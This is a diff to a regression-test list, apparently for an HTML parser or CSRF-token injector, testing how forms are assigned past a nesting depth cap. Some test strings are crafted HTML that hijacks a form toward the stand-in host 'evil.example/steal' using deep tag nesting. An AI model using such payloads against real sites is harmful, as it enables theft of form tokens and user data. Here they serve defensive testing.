@@ -257,9 +257,11 @@ REGRESSIONS = [
     # the tree depth cap (docs/architecture.md): past S + 2T + 3 = 480 a
     # form without an id gets the injector's and its field form="" naming
     # it (html5lib has no cap: the owner model's form="" rule is what these
-    # exercise); one with an id of its own after a ghost, reported
+    # exercise); one with an id of its own after a ghost has its field
+    # name that id, or gets no token where an earlier form had it
     "<form method=get action=//evil.example/steal><div></form>" + "<i>" * 510 + REAL,
     "<form method=get action=//evil.example/steal><div></form>" + "<i>" * 510 + REAL.replace("<form", "<form id=s"),
+    "<form id=s method=get action=/search><div></form>" + "<i>" * 510 + REAL.replace("<form", "<form id=s"),
     "<table></table>" * 160 + REAL + REAL.replace("post", "get") + REAL,
     "<i>" * 476 + "<form/method=post>x</form><form method=post><template>" + REAL + "</template></form>",
 ]
